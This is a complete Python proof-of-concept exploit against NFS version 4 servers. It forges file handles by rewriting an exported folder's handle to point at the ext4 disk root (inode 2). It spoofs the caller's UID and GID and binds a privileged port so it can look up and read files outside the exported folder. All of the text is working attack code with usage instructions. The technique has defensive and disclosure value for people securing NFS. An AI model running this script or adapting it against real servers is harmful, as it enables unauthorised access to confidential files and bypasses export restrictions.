# Reads a file by NFS 4 as a hostile client does: python3 forged-handle.py SERVER FOLDER UID GID own|forged NAME...
# Clients name files by handles, which have no signature. "own" looks NAME up from the exported folder; "forged" from
# the root of its disk, whose handle anybody can make up (ext4: inode 2, the generation is not checked).
import socket
import struct
import sys
import time

server, folder, uid, gid, how, *names = sys.argv[1:]
PUTFH, PUTROOTFH, LOOKUP, GETFH, READ = 22, 24, 15, 10, 25
IN_GRACE = 10013


def number(*values):
    return struct.pack(f'>{len(values)}I', *values)


def opaque(data):
    return number(len(data)) + data + b'\0' * (-len(data) % 4)


def lookups(words):
    return [number(LOOKUP) + opaque(word.encode()) for word in words]


class Answer:
    def __init__(self, data):
        self.data = data

    def number(self):
        value, self.data = struct.unpack('>I', self.data[:4])[0], self.data[4:]
        return value

    def opaque(self):
        length = self.number()
        value, self.data = self.data[:length], self.data[length + -length % 4 :]
        return value


def receive(length):
    data = b''
    while len(data) < length:
        data += connection.recv(length - len(data)) or sys.exit('closed')
    return data


def compound(operations):
    """What the last operation answers, behind its status."""
    login = number(1) + opaque(b'hostile') + number(int(uid), int(gid), 0)
    call = number(7, 0, 2, 100003, 4, 1, 1) + opaque(login) + number(0, 0)
    call += opaque(b'') + number(0, len(operations)) + b''.join(operations)
    connection.sendall(number(0x80000000 | len(call)) + call)
    answer = Answer(receive(struct.unpack('>I', receive(4))[0] & 0x7FFFFFFF))
    if [answer.number() for _ in range(3)][1:] != [1, 0]:
        sys.exit('the call was refused')
    answer.number(), answer.opaque()
    if answer.number() != 0:
        sys.exit('the call was not understood')
    status = answer.number()
    answer.opaque()
    # A server that has just started first waits for clients that had files open.
    if status == IN_GRACE:
        time.sleep(1)
        return compound(operations)
    if status != 0:
        sys.exit(f'status {status}')
    for _ in range(answer.number() - 1):
        answer.number(), answer.number()
    answer.number(), answer.number()
    return answer


# Servers accept only clients with a port below 1024, which root may use.
for port in range(700, 1000):
    connection = socket.socket()
    try:
        connection.bind(('', port))
        connection.connect((server, 2049))
        break
    except OSError:
        connection.close()
handle = compound([number(PUTROOTFH), *lookups(folder.strip('/').split('/')), number(GETFH)]).opaque()
if how == 'forged':
    handle = handle[:3] + b'\1' + handle[4:] + struct.pack('<II', 2, 0)
found = compound([number(PUTFH) + opaque(handle), *lookups(names), number(READ) + number(0, 0, 0, 0, 0, 0, 4000)])
found.number()
print(found.opaque().decode())
